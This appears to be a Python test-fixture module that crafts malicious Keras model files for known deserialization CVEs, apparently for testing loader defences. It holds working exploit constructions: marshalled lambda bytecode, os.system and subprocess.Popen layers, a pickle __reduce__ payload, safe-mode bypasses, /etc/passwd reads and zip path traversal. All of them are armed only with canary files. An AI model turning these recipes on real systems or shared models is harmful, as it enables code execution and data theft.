"""Configurations that would have Keras run code, or read and write elsewhere, after its published weaknesses.

Each is written as `.keras` or `.h5` from a good model; what it would do leaves the file `canary` behind.
"""

import base64
import json
import marshal
import pickle
import zipfile

import h5py
from hostile_configs import layers_of
from hostile_models import entries, with_config, write_entries


def _before_the_end(config, kind, module="keras.layers", place=1, **settings):
    new = {"module": module, "class_name": kind, "registered_name": None}
    layers_of(config).insert(place, new | {"config": {"name": "extra", "dtype": "float32"} | settings})


def _bytecode(canary):
    code = compile(f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]", "payload", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def _function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def lambda_with_bytecode(good, path, canary):
    """CVE-2024-3660."""
    code = {
        "class_name": "__lambda__",
        "config": {"code": _bytecode(canary), "defaults": None, "closure": None},
    }
    return with_config(
        good, path, lambda config: _before_the_end(config, "Lambda", function=code, arguments={})
    )


def lambda_of_the_old_format(good, path, canary):
    """CVE-2025-9905: `.h5` files were not held to Keras's safe mode."""
    settings = {"function": [_bytecode(canary), None, None], "function_type": "lambda", "arguments": {}}
    settings |= {
        "module": "__main__",
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
    }
    return with_config(good, path, lambda config: _before_the_end(config, "Lambda", **settings))


def any_module(good, path, canary):
    """CVE-2025-1550: a function of any module, called as a layer with arguments of the file."""

    def change(config):
        command = {"args": [f"touch {canary}"], "kwargs": {}}
        layers_of(config).insert(1, _function("os", "system") | {"name": "extra", "inbound_nodes": [command]})

    return with_config(good, path, change)


def any_class(good, path, canary):
    """CVE-2025-1550 with a class: it is called with the settings of the file."""

    def change(config):
        settings = {"args": ["touch", str(canary)]}
        layers_of(config).insert(1, {"module": "subprocess", "class_name": "Popen", "config": settings})

    return with_config(good, path, change)


def compiled_with_code(good, path, canary):
    """CVE-2025-1550 by the settings of the training."""

    def change(config):
        config["compile_config"] = {"optimizer": _function("os", "system"), "loss": f"touch {canary}"}

    return with_config(good, path, change)


def keras_downloads(good, path, canary):
    """CVE-2025-8747: Keras's own `get_file` as a layer's function; CVE-2024-55459 and CVE-2025-12060 unpack it."""
    arguments = {
        "fname": str(canary),
        "origin": "http://127.0.0.1:9/a.tar.gz",
        "extract": True,
        "force_download": True,
    }
    return with_config(
        good,
        path,
        lambda config: _before_the_end(
            config, "Lambda", function=_function("keras.utils", "get_file"), arguments=arguments
        ),
    )


def a_download_as_activation(good, path, canary):
    def change(config):
        layers_of(config)[2]["config"]["activation"] = _function("keras.utils", "get_file")

    return with_config(good, path, change)


def safe_mode_off(good, path, canary):
    """CVE-2025-9906: the configuration switches Keras's safe mode off before its Lambda is read."""

    def change(config):
        off = _function("keras.config", "enable_unsafe_deserialization")
        layers_of(config)[2]["config"]["activation"] = off
        code = {
            "class_name": "__lambda__",
            "config": {"code": _bytecode(canary), "defaults": None, "closure": None},
        }
        _before_the_end(config, "Lambda", place=3, function=code, arguments={})

    return with_config(good, path, change)


def safe_mode_off_by_a_global(good, path, canary):
    """CVE-2025-9906's first step: an internal function of Keras that sets a global."""

    def change(config):
        setter = _function("keras.src.backend.common.global_state", "set_global_attribute")
        _before_the_end(config, "Lambda", function=setter, arguments={"value": False})

    return with_config(good, path, change)


def a_model_from_elsewhere(good, path, canary):
    """CVE-2025-9906's second step: another model is loaded without safe mode."""

    def change(config):
        layers_of(config)[2]["config"]["activation"] = _function("keras.models", "load_model")

    return with_config(good, path, change)


def vocabulary_from_a_file(good, path, canary):
    """CVE-2025-12058: a look-up layer reads a file, or a page, that the configuration names."""
    settings = {"vocabulary": "/etc/passwd", "num_oov_indices": 1, "output_mode": "int", "invert": False}
    return with_config(good, path, lambda config: _before_the_end(config, "StringLookup", **settings))


def vocabulary_from_the_web(good, path, canary):
    settings = {"vocabulary": "http://127.0.0.1:9/words", "max_tokens": None, "output_mode": "int"}
    return with_config(good, path, lambda config: _before_the_end(config, "TextVectorization", **settings))


def torch_module(good, path, canary):
    """CVE-2025-49655: a torch module, which is read by pickle."""

    class Payload:
        def __reduce__(self):
            return open, (str(canary), "w")

    packed = base64.b64encode(pickle.dumps(Payload())).decode()
    settings = {"module": {"class_name": "__bytes__", "config": {"value": packed}}, "output_shape": None}
    return with_config(good, path, lambda config: _before_the_end(config, "TorchModuleWrapper", **settings))


def saved_model(good, path, canary):
    """CVE-2026-1462: a layer that loads a TensorFlow model from a path of the file's choice."""
    settings = {"filepath": str(canary.parent), "call_endpoint": "serve"}
    return with_config(good, path, lambda config: _before_the_end(config, "TFSMLayer", **settings))


def renamed_lambda(good, path, canary):
    """A refused class by its registered name, or behind a longer module."""

    def change(config):
        code = {
            "class_name": "__lambda__",
            "config": {"code": _bytecode(canary), "defaults": None, "closure": None},
        }
        settings = {"name": "extra", "function": code, "arguments": {}}
        one = {"module": "keras", "class_name": "layers.Lambda", "registered_name": None, "config": settings}
        other = {"module": None, "class_name": "Dense", "registered_name": "keras>Lambda", "config": settings}
        layers_of(config)[1:1] = [one, other]

    return with_config(good, path, change)


def tokenizer_from_a_file(good, path, canary):
    settings = {"vocabulary": "/etc/passwd"}
    return with_config(
        good,
        path,
        lambda config: _before_the_end(config, "WordPieceTokenizer", "keras_hub.tokenizers", **settings),
    )


BOTH_FORMATS = {
    make.__name__: make
    for make in (
        lambda_with_bytecode, lambda_of_the_old_format, any_module, any_class, keras_downloads,
        a_download_as_activation, safe_mode_off, safe_mode_off_by_a_global, a_model_from_elsewhere,
        vocabulary_from_a_file, vocabulary_from_the_web, torch_module, saved_model, renamed_lambda,
        tokenizer_from_a_file, compiled_with_code,
    )
}  # fmt: skip


def entry_outside(good, path, name):
    """Keras before 3.14 wrote an archive's entries wherever their names led."""
    return write_entries(path, entries(good) | {name: b"written"})


def link_outside(good, path, target):
    write_entries(path, entries(good))
    link = zipfile.ZipInfo("assets/link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(link, str(target))
    return path


def two_configurations(good, path):
    """Readers that take the first entry of a name, and those that take the last, see different models."""
    contents = entries(good)
    write_entries(path, contents)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("config.json", json.dumps({"class_name": "Lambda", "config": {}}))
    return path


def texts_of(path):
    """Return all that a file says of its network, for a test of the makers themselves."""
    if path.suffix == ".keras":
        return entries(path)["config.json"].decode()
    with h5py.File(path) as file:
        return file.attrs["model_config"]
